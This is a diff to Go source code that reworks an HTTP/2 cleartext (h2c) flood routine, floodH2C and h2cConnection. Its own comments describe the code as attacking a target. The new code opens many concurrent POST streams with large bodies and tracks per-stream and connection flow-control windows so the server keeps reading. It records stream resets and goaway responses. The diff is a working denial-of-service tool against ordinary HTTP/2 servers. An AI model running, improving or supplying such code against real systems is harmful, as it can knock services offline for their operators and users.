@@ -451,6 +451,16 @@ func floodH2C(ctx context.Context, t *target, _ *peer, cfg config) (string, erro
 	return results.String(), nil
 }
 
+// h2cStream is one attacking stream: its send window and the bytes of its
+// body still to send.
+type h2cStream struct {
+	window int64
+	left   int
+}
+
+// h2cConnection attacks over one connection until ctx ends or the server
+// closes it. It honours HTTP/2 flow control, as a well-behaved client whose
+// bodies the server reads would, so every byte the server lets in is sent.
 func h2cConnection(ctx context.Context, addr string, cfg config, results *tally) error {
 	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
 	if err != nil {
@@ -468,36 +478,22 @@ func h2cConnection(ctx context.Context, addr string, cfg config, results *tally)
 	if err := write(func() error { return fr.WriteSettings() }); err != nil {
 		return err
 	}
-	var hbuf bytes.Buffer
-	enc := hpack.NewEncoder(&hbuf)
-	chunk := make([]byte, 16<<10)
-	var window atomic.Int64 // the connection's send window
-	window.Store(65535)
-	next := uint32(1)
-	open := make(chan struct{}, cfg.streams) // one token per open stream
-	openStream := func() error {
-		id := next
-		next += 2
-		hbuf.Reset()
-		for _, f := range [][2]string{
-			{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", pushPath},
-			{"content-type", "application/hrpc"}, {"content-length", strconv.Itoa(cfg.body)},
-		} {
-			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+
+	var mu sync.Mutex // the flow control state below
+	connWindow, streamWindow := int64(65535), int64(65535)
+	streams := map[uint32]*h2cStream{}
+	kick := make(chan struct{}, 1)
+	wake := func() {
+		select {
+		case kick <- struct{}{}:
+		default:
 		}
-		return write(func() error {
-			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true}); err != nil {
-				return err
-			}
-			// Some of the body, as far as the connection's flow control
-			// window allows (a stream's own is at least 64 KiB - 1).
-			n := min(int64(len(chunk)), window.Load())
-			if n <= 0 {
-				return nil
-			}
-			window.Add(-n)
-			return fr.WriteData(id, false, chunk[:n])
-		})
+	}
+	ended := func(id uint32) {
+		mu.Lock()
+		delete(streams, id)
+		mu.Unlock()
+		wake()
 	}
 	readErr := make(chan error, 1)
 	go func() {
@@ -509,44 +505,118 @@ func h2cConnection(ctx context.Context, addr string, cfg config, results *tally)
 			}
 			switch f := f.(type) {
 			case *http2.SettingsFrame:
-				if !f.IsAck() {
-					_ = write(func() error { return fr.WriteSettingsAck() })
+				if f.IsAck() {
+					continue
 				}
+				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
+					mu.Lock()
+					streamWindow = int64(v)
+					mu.Unlock()
+				}
+				_ = write(func() error { return fr.WriteSettingsAck() })
 			case *http2.PingFrame:
 				if !f.IsAck() {
 					_ = write(func() error { return fr.WritePing(true, f.Data) })
 				}
+			case *http2.WindowUpdateFrame:
+				mu.Lock()
+				if f.StreamID == 0 {
+					connWindow += int64(f.Increment)
+				} else if st := streams[f.StreamID]; st != nil {
+					st.window += int64(f.Increment)
+				}
+				mu.Unlock()
+				wake()
 			case *http2.HeadersFrame:
 				results.add("stream answered")
 				if f.StreamEnded() {
-					<-open
+					ended(f.StreamID)
 				}
 			case *http2.DataFrame:
 				if f.StreamEnded() {
-					<-open
-				}
-			case *http2.WindowUpdateFrame:
-				if f.StreamID == 0 {
-					window.Add(int64(f.Increment))
+					ended(f.StreamID)
 				}
 			case *http2.RSTStreamFrame:
 				results.add("stream reset: " + f.ErrCode.String())
-				<-open
+				ended(f.StreamID)
 			case *http2.GoAwayFrame:
 				results.add("goaway: " + f.ErrCode.String())
 			}
 		}
 	}()
-	for {
-		select {
-		case open <- struct{}{}:
+
+	var hbuf bytes.Buffer
+	enc := hpack.NewEncoder(&hbuf)
+	chunk := make([]byte, 16<<10)
+	next := uint32(1)
+	openStream := func() error {
+		id := next
+		next += 2
+		mu.Lock()
+		streams[id] = &h2cStream{window: streamWindow, left: cfg.body}
+		mu.Unlock()
+		hbuf.Reset()
+		for _, f := range [][2]string{
+			{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", pushPath},
+			{"content-type", "application/hrpc"}, {"content-length", strconv.Itoa(cfg.body)},
+		} {
+			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		}
+		return write(func() error {
+			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true})
+		})
+	}
+	// sendData sends one frame on each stream the windows allow; it reports
+	// whether it sent anything.
+	sendData := func() (bool, error) {
+		type frame struct {
+			id   uint32
+			n    int
+			last bool
+		}
+		var frames []frame
+		mu.Lock()
+		for id, st := range streams {
+			n := int(min(int64(len(chunk)), int64(st.left), st.window, connWindow))
+			if n <= 0 {
+				continue
+			}
+			st.window -= int64(n)
+			st.left -= n
+			connWindow -= int64(n)
+			frames = append(frames, frame{id, n, st.left == 0})
+		}
+		mu.Unlock()
+		for _, f := range frames {
+			if err := write(func() error { return fr.WriteData(f.id, f.last, chunk[:f.n]) }); err != nil {
+				return false, err
+			}
+		}
+		return len(frames) > 0, nil
+	}
+	for ctx.Err() == nil {
+		mu.Lock()
+		room := len(streams) < cfg.streams
+		mu.Unlock()
+		if room {
 			if err := openStream(); err != nil {
 				return err
 			}
+			continue
+		}
+		sent, err := sendData()
+		if err != nil {
+			return err
+		}
+		if sent {
+			continue
+		}
+		select {
+		case <-kick:
 		case err := <-readErr:
 			return err
 		case <-ctx.Done():
-			return nil
 		}
 	}
+	return nil
 }
